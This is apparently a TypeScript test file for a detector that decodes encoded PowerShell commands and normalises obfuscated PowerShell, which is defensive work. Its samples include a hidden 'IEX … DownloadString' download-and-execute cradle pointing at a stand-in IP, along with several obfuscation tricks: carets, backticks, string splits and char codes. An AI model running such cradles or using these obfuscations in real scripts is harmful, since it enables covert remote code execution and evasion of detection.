import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findEncodedCommands, normalizePowerShell } from './index.js';

const utf16b64 = (s: string) => Buffer.from(s, 'utf16le').toString('base64');

test('powershell: -enc and every unambiguous prefix decode as UTF-16LE', () => {
  const payload = utf16b64("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')");
  for (const flag of ['-e', '-ec', '-enc', '-EncodedCommand', '/enc', '-ENC']) {
    const found = findEncodedCommands(`powershell.exe -nop -w hidden ${flag} ${payload}`);
    assert.equal(found.length, 1, flag);
    assert.match(found[0]!.decoded, /DownloadString/);
    assert.equal(found[0]!.kind, 'encoded-command');
  }
});

test('powershell: cmd carets are stripped before matching', () => {
  const found = findEncodedCommands(`cmd /c p^ower^shell -e^nc ${utf16b64('Start-Process calc')}`);
  assert.equal(found[0]!.decoded, 'Start-Process calc');
});

test('powershell: FromBase64String literals, UTF-8', () => {
  const b64 = Buffer.from('Invoke-WebRequest http://example.com/x').toString('base64');
  const found = findEncodedCommands(
    `$s=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${b64}'))`,
  );
  assert.equal(found[0]!.decoded, 'Invoke-WebRequest http://example.com/x');
  assert.equal(found[0]!.kind, 'from-base64');
});

test('powershell: base64 of binary noise is not reported as a command', () => {
  const noise = Buffer.from(
    Uint8Array.from({ length: 64 }, (_, i) => (i * 37 + 11) % 256),
  ).toString('base64');
  assert.deepEqual(findEncodedCommands(`-enc ${noise}`), []);
});

test('powershell: -Enable-like words are not -EncodedCommand', () => {
  assert.deepEqual(findEncodedCommands('-ExecutionPolicy Bypass -File a.ps1'), []);
});

test('powershell: maxResults bounds the work', () => {
  const line = `-enc ${utf16b64('Write-Output 1')} `.repeat(100);
  assert.equal(findEncodedCommands(line, { maxResults: 5 }).length, 5);
});

test('powershell: normalise backticks, string splits and [char] codes', () => {
  assert.equal(
    normalizePowerShell("(N`e`w-Obj`ect Net.WebClient).('Down'+'loadFile')([char]104+'ttp')"),
    "(New-Object Net.WebClient).('DownloadFile')('http')",
  );
});

test('powershell: format operator, -join lists, [char[]] arrays and .Replace markers', () => {
  assert.equal(normalizePowerShell(`&("{1}{0}" -f 'ell','powersh')`), `&'powershell'`);
  assert.equal(normalizePowerShell(`-join ('Net.','Web','Client')`), `'Net.WebClient'`);
  assert.equal(normalizePowerShell(`('a','b','c') -join '-'`), `'a-b-c'`);
  assert.equal(normalizePowerShell(`[char[]](73,69,88) -join ''`), `'IEX'`);
  assert.equal(normalizePowerShell(`'DowXXnloadFile'.Replace('XX','')`), `'DownloadFile'`);
  assert.equal(normalizePowerShell(`'iYwr' -replace 'Y',''`), `'iwr'`);
});

test('powershell: layered obfuscation unwraps over passes', () => {
  assert.equal(normalizePowerShell(`("{0}{1}" -f ('Down'+'load'),'File')`), `'DownloadFile'`);
});
